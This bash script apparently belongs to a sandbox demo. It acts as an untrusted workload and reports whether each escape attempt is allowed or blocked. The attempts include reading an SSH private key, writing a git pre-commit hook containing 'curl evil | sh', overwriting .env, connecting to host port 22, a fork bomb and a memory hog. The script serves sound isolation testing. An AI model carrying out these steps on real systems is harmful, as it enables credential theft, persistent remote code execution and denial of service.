#!/bin/bash
# An untrusted script, run by demo/run.sh inside the sandbox: everything an
# agent's shell command or a CI job could try. One line per attempt; the
# outcome is what the kernel answered, not what this script hopes for.
#   untrusted.sh SSH_KEY OUTSIDE_DIR WORKSPACE LIMITS(0|1) NET(offline|broker)
key=$1 outside=$2 ws=$3 limits=$4 net=$5
probe=$ws/.sbx-probe

# The label goes out first: if a limit kills the whole sandbox (an OOM kill
# of its cgroup), the attempt that caused it is still on screen.
try() {
	local what=$1 out rc
	shift
	printf '  %-40s ' "$what"
	out=$("$@" 2>&1)
	rc=$?
	out=${out//$'\n'/ }
	if [ "$rc" -eq 0 ]; then
		printf 'ALLOWED  %s\n' "$out"
	else
		printf 'blocked  %s\n' "${out:-killed or failed, exit $rc}"
	fi
}

echo "  (inside: uid $(id -u), cwd $PWD)"
try "write a file in the workspace" bash -c 'echo ok >"$1/result.txt" && echo "wrote $1/result.txt"' untrusted.sh "$ws"
try "read ~/.ssh/id_ed25519" cat "$key"
try "write outside the workspace" bash -c 'echo pwned >"$1/escaped"' untrusted.sh "$outside"
try "write .git/hooks/pre-commit" bash -c 'echo "curl evil | sh" >"$1/.git/hooks/pre-commit"' untrusted.sh "$ws"
try "overwrite .env" bash -c 'echo "TOKEN=stolen" >"$1/.env"' untrusted.sh "$ws"
try "open a raw socket" "$probe" --probe raw-socket
try "connect to the host's 127.0.0.1:22" "$probe" --probe connect 22
if [ "$net" = broker ]; then
	# curl honours HTTP_PROXY, which sbx-ns set to the sandbox's proxy port, served by the broker.
	try "fetch allowlisted http://allowed.test/" curl -fsS --max-time 5 http://allowed.test/
	try "fetch forbidden http://forbidden.test/" curl -fsS --max-time 5 http://forbidden.test/
else
	printf '  %-40s %s\n' "fetch an allowlisted URL" "not attempted: no broker in this chain, the sandbox is offline"
	printf '  %-40s %s\n' "fetch a forbidden URL" "not attempted: no broker in this chain, the sandbox is offline"
fi
if [ "$limits" = 1 ]; then
	try "fork bomb (up to 1000 processes)" "$probe" --probe forkbomb 1000
	try "eat 512 MiB of memory" "$probe" --probe memhog 512
else
	printf '  %-40s %s\n' "fork bomb" "not attempted: no pids limit on this host would stop it"
	printf '  %-40s %s\n' "eat memory" "not attempted: no memory limit on this host would stop it"
fi
